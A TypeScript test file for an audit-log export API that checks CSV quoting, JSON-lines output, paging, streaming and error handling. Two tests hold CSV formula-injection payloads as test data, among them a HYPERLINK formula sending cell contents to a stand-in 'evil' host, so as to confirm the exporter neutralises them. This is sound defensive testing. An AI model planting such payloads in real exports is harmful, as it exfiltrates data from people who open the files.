import { afterEach, beforeEach, expect, test } from 'bun:test'
import { exportEntries } from '../../../src/auth/audit/export.ts'
import type { AuditEvent } from '../../../src/db/audit.ts'
import { type TestApp, testStartMs } from '../../support/app.ts'
import { joinedApp } from '../../support/reused-app.ts'

let nines: TestApp
beforeEach(async () => {
  nines = await joinedApp()
  await nines.app.db.write.deleteFrom('audit_log').execute()
})
afterEach(() => nines.close())

const path = '/api/v1/audit-log'
const read = (query: string) => nines.call('GET', `${path}?${query}`)
const head = 'id,event,outcome,user_id,email,ip,user_agent,details,created_at,credential'

type Entry = { event?: AuditEvent; userId?: number | null; email?: string | null; userAgent?: string; details?: object }

async function record(entries: Entry[], organizationId = 1) {
  const rows = entries.map((entry) => ({
    organization_id: organizationId,
    event: entry.event ?? 'login',
    outcome: 'success' as const,
    user_id: entry.userId === undefined ? 1 : entry.userId,
    email: entry.email === undefined ? 'ada@example.com' : entry.email,
    ip: '::1',
    user_agent: entry.userAgent ?? '',
    details: JSON.stringify(entry.details ?? {}),
    created_at: testStartMs,
  }))
  await nines.app.db.write.insertInto('audit_log').values(rows).execute()
}

/** Parses CSV by RFC 4180, independently of the code that writes it. */
function cellsIn(csv: string): string[][] {
  return csv
    .replace(/\r\n$/, '')
    .split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
    .map((line) =>
      line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((cell) => cell.replace(/^"([^]*)"$/, '$1').replaceAll('""', '"')),
    )
}
const userAgentsOf = (csv: string) =>
  cellsIn(csv)
    .slice(1)
    .map((cells) => cells[6])

test('CSV has a header line, quotes what needs it, and is a file to be saved', async () => {
  await record([{ userAgent: 'Mozilla/5.0 (X11, "Linux")', details: { name: 'a,b\n"c"' } }])
  await record([{ userId: null, email: null }])
  const { status, text, headers } = await read('format=csv')
  expect(status).toBe(200)
  const [, second] = (await read('')).body.entries.map(({ id }: { id: number }) => id)
  expect(text).toBe(
    `${head}\r\n` +
      `${second + 1},login,success,,,::1,,{},2026-11-21T10:00:00.000Z,\r\n` +
      `${second},login,success,1,ada@example.com,::1,"Mozilla/5.0 (X11, ""Linux"")",` +
      `"{""name"":""a,b\\n\\""c\\""""}",2026-11-21T10:00:00.000Z,\r\n`,
  )
  expect(headers.get('content-type')).toStartWith('text/csv')
  expect(headers.get('content-disposition')).toBe('attachment; filename="audit-log-2026-11-21.csv"')
  expect(headers.get('cache-control')).toBe('no-store')
  expect(headers.get('x-content-type-options')).toBe('nosniff')
})

test('a cell of CSV is never a formula', async () => {
  const hostile = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\r=1', '=HYPERLINK("http://evil/?"&A1,"a")']
  await record(hostile.map((userAgent) => ({ userAgent })))
  const shown = userAgentsOf((await read('format=csv')).text)
  expect(shown.toReversed()).toEqual(hostile.map((text) => `'${text}`))
})

test('a cell of CSV is no formula behind what nobody sees, or in wide characters', async () => {
  const unseen = [' ', '\u00A0', '\u00AD', '\u200B', '\u200F', '\u2060', '\u3000', '\uFEFF', '\0', ' \u200B ']
  const hostile = ['＝1+1', '＋1', '－1', '＠SUM(A1)', ...unseen.flatMap((one) => [`${one}=1`, `${one}＠a`])]
  await record(hostile.map((userAgent) => ({ userAgent })))
  const shown = userAgentsOf((await read('format=csv')).text)
  expect(shown.toReversed()).toEqual(hostile.map((text) => `'${text}`))
})

test('JSON lines hold each entry as the list has it', async () => {
  await record([
    { userAgent: '=1+1\n"', details: { id: 3 } },
    { userId: null, email: null },
  ])
  const { text, headers } = await read('format=jsonl')
  const { entries } = (await read('')).body
  expect(text).toEndWith('\n')
  expect(
    text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line)),
  ).toEqual(entries)
  expect(headers.get('content-type')).toStartWith('application/x-ndjson')
  expect(headers.get('content-disposition')).toBe('attachment; filename="audit-log-2026-11-21.jsonl"')
})

test('all that the filter selects comes, past any page, and nothing else', async () => {
  await nines.join('eve')
  const many = Array.from({ length: 700 }, (_, at) => ({ userAgent: String(at) }))
  for (let round = 0; round < 4; round += 1) {
    await record(many)
    await record([{ event: 'logout', userAgent: `rare ${round}` }])
    await record(many, 2)
  }
  const all = userAgentsOf((await read('format=csv&page=3&page_size=1')).text)
  expect(all).toHaveLength(2804)
  expect(all.slice(0, 2)).toEqual(['rare 3', '699'])
  expect(userAgentsOf((await read('format=csv&event=logout')).text)).toEqual(['rare 3', 'rare 2', 'rare 1', 'rare 0'])
  expect((await read('format=csv&event=team_created')).text).toBe(`${head}\r\n`)
  expect((await read('format=jsonl&event=team_created')).text).toBe('')
})

test('others are served in the midst of a long one', async () => {
  for (let round = 0; round < 5; round += 1) await record(Array.from({ length: 1000 }, () => ({})))
  const stream = exportEntries(nines.app.db.read, 1, { format: 'jsonl', filter: {}, onError() {} })
  const { turns, result } = await turnsOf(() => new Response(stream).text())
  expect(result.split('\n')).toHaveLength(5001)
  expect(turns).toBeGreaterThanOrEqual(5) // one for each thousand
})

/** Turns of the event loop in which other work may run until `work` is done. */
async function turnsOf<T>(work: () => Promise<T>): Promise<{ turns: number; result: T }> {
  let [turns, isOver] = [0, false]
  const turn = () => {
    turns += 1
    if (!isOver) setImmediate(turn)
  }
  setImmediate(turn)
  const result = await work()
  isOver = true
  return { turns, result }
}

test('HEAD says what there would be and reads none of it', async () => {
  await record([{}])
  const { status, text, headers } = await nines.call('HEAD', `${path}?format=csv`)
  expect([status, text]).toEqual([200, ''])
  expect(headers.get('content-disposition')).toContain('audit-log-2026-11-21.csv')
})

test('over a socket it is complete, and a reader that goes away harms nobody', async () => {
  for (let round = 0; round < 20; round += 1) await record(Array.from({ length: 1000 }, () => ({ userAgent: 'x' })))
  const login = { email: 'ada@example.com', password: 'correct horse' }
  const { body } = await nines.call('POST', '/api/v1/auth/login', login, { token: null })
  const url = `${nines.listen()}${path}?format=csv&event=login&to=2026-11-21T10:00:00.001Z`
  const headers = { authorization: `Bearer ${body.access_token}` }
  const whole = await fetch(url, { headers })
  expect((await whole.text()).split('\r\n').length).toBeGreaterThan(20_001)
  const broken = await fetch(url, { headers })
  await broken.body?.getReader().cancel()
  expect((await nines.call('GET', '/api/v1/auth/me')).status).toBe(200)
  expect(nines.logged.join('')).not.toContain('failed')
})

test('one that breaks does not pass for a whole one', async () => {
  await record([{}])
  await nines.app.db.write.schema.alterTable('audit_log').renameTo('elsewhere').execute()
  await expect(read('format=csv')).rejects.toThrow()
  expect(nines.logged.join('')).toContain('export of the audit log failed')
})
